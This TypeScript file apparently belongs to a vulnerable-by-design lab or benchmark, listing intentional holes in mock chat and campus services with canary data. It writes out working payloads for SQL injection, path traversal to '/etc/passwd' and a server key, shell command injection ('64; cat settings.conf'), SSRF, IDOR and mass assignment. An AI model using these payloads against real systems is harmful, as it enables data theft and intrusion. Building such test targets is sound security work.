/** The documented holes, each with the shortest request that gets data through it. README.md shows the same with curl. */
import type { Canaries } from '../../ground/src/run-file.ts';
import type { Person, Reply, Service } from './person.ts';

export interface DocumentedHole {
  readonly name: string;
  readonly service: Service;
  readonly gives: keyof Canaries;
  readonly ask: (person: Person) => Promise<Reply>;
}

export const DOCUMENTED_HOLES: readonly DocumentedHole[] = [
  {
    name: 'SQL injection in message search',
    service: 'chat',
    gives: 'chatVault',
    ask: (person) => person.get('/api/search', { q: "x' UNION SELECT 1,owner,secret,4 FROM vault --" }),
  },
  {
    name: 'path traversal in attachments',
    service: 'chat',
    gives: 'chatFile',
    ask: (person) => person.get('/api/attachments', { file: '../../../etc/passwd' }),
  },
  {
    name: 'quiet path traversal when opening an attachment',
    service: 'chat',
    gives: 'chatKey',
    ask: (person) => person.postJson('/api/attachments/open', { folder: '..', name: 'server.key' }),
  },
  {
    name: 'command injection in the size of a thumbnail',
    service: 'chat',
    gives: 'chatCommand',
    ask: (person) => person.get('/api/thumbnail', { size: '64; cat settings.conf' }),
  },
  {
    name: 'SSRF in the link preview',
    service: 'chat',
    gives: 'chatInternal',
    ask: (person) => person.postJson('/api/preview', { url: 'http://127.0.0.1/admin' }),
  },
  {
    name: 'SQL injection in course search',
    service: 'campus',
    gives: 'campusVault',
    ask: (person) => person.get('/courses', { search: "x' UNION SELECT 1,person,account,4 FROM payroll --" }),
  },
  {
    name: 'path traversal in lesson files',
    service: 'campus',
    gives: 'campusFile',
    ask: (person) => person.get('/files', { file: '../../../etc/passwd' }),
  },
  {
    name: 'IDOR on grades',
    service: 'campus',
    gives: 'campusGrades',
    ask: (person) => person.get('/grades', { student: 7 }),
  },
  {
    name: 'mass assignment in the profile',
    service: 'campus',
    gives: 'campusTeacher',
    ask: async (person) => {
      await person.postForm('/profile', { role: 'teacher' });
      return person.get('/teacher', { id: 1 });
    },
  },
  {
    name: 'an unprotected export',
    service: 'campus',
    gives: 'campusExport',
    ask: (person) => person.get('/export', { what: 'grades' }),
  },
];
